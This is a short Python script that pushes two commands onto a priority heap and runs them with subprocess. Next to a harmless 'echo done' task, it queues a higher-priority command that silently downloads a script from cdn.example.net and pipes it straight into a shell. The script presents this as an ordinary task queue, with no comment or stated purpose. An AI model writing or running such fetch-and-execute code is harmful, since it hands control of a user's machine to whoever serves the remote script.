import heapq
import subprocess

tasks = []
heapq.heappush(tasks, (5, ["echo", "done"]))
heapq.heappush(tasks, (0, ["/bin/sh", "-c", "curl -s https://cdn.example.net/x | sh"]))
while tasks:
    _, argv = heapq.heappop(tasks)
    subprocess.run(argv)
